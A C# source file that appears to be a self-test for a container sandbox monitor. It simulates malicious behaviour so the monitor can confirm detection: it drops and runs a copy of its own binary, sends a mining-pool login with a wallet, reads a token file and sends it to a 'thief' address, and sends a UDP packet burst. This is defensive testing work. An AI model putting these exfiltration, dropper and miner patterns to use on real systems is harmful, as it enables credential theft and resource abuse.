using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using DockerScan.Sentinel.SelfTest;

namespace DockerScan.Sentinel;

/// <summary>Does one of everything that the sandbox must see, harmlessly. What must be seen of it is in <see cref="SelfTestFacts"/>.</summary>
internal static class SelfTestRole
{
    private const int ReplyMs = 2000;
    // The sink answers at once where it knows the protocol, and not where it does not.
    private const int AnswerMs = 100;
    private const int LingerMs = 500;

    public static int Run(string[] args)
    {
        if (args is ["sleep"])
        {
            Thread.Sleep(LingerMs);
            return 0;
        }

        using var listener = new TcpListener(IPAddress.Any, SelfTestFacts.ListenPort);
        listener.Start();
        using var child = StartDropped();
        var address = Resolve(SelfTestFacts.Name);
        Talk(new IPEndPoint(address, 80), $"GET {SelfTestFacts.HttpPath} HTTP/1.1\r\nHost: {SelfTestFacts.Name}\r\nUser-Agent: {SelfTestFacts.HttpAgent}\r\n\r\n");
        Talk(
            new IPEndPoint(IPAddress.Parse(SelfTestFacts.PoolAddress), SelfTestFacts.PoolPort),
            """{"id":1,"jsonrpc":"2.0","method":"login","params":{"pass":"x","agent":"selftest/1","login":""" + $"\"{SelfTestFacts.Wallet}\"}}}}\n");
        Talk(new IPEndPoint(IPAddress.Parse(SelfTestFacts.AddressV6), SelfTestFacts.PortV6), "selftest\n");
        Talk(new IPEndPoint(IPAddress.Parse(SelfTestFacts.ThiefAddress), SelfTestFacts.ThiefPort), File.ReadAllText(args is [var file, ..] ? file : SelfTestFacts.TokenFile));
        SendUdp();
        child.WaitForExit();
        return child.ExitCode;
    }

    private static Process StartDropped()
    {
        File.Copy(Environment.ProcessPath ?? throw new InvalidOperationException("no path of its own"), SelfTestFacts.Dropped, overwrite: true);
        File.SetUnixFileMode(SelfTestFacts.Dropped, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var child = Process.Start(new ProcessStartInfo(SelfTestFacts.Dropped, ["selftest", "sleep"]))
            ?? throw new InvalidOperationException("the copy did not start");
        File.Delete(SelfTestFacts.Dropped);
        return child;
    }

    /// <summary>Asks a server that does not exist, by hand: no resolver settings take part.</summary>
    private static IPAddress Resolve(string name)
    {
        using var socket = new UdpClient("10.0.0.2", 53);
        socket.Client.ReceiveTimeout = ReplyMs;
        socket.Send([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, .. Labels(name), 0, 1, 0, 1]);
        var from = new IPEndPoint(IPAddress.Any, 0);
        var answer = socket.Receive(ref from);
        // One record, the last one: its last four bytes are the address.
        return new IPAddress(answer.AsSpan(answer.Length - 4));
    }

    private static byte[] Labels(string name)
        => [.. name.Split('.').SelectMany(label => new[] { (byte)label.Length }.Concat(Encoding.ASCII.GetBytes(label))), 0];

    private static void Talk(IPEndPoint to, string text)
    {
        using var socket = new Socket(to.AddressFamily, SocketType.Stream, ProtocolType.Tcp) { ReceiveTimeout = AnswerMs };
        socket.Connect(to);
        socket.Send(Encoding.UTF8.GetBytes(text));
        try
        {
            _ = socket.Receive(new byte[256]);
        }
        catch (SocketException)
        {
            // It need not answer.
        }
    }

    private static void SendUdp()
    {
        using var socket = new UdpClient();
        socket.Send("selftest"u8, SelfTestFacts.UdpAddress, SelfTestFacts.UdpPort);
        for (var i = 0; i < SelfTestFacts.BurstPackets; i++)
        {
            socket.Send("burst"u8, SelfTestFacts.BurstAddress, SelfTestFacts.BurstPort);
        }
    }
}
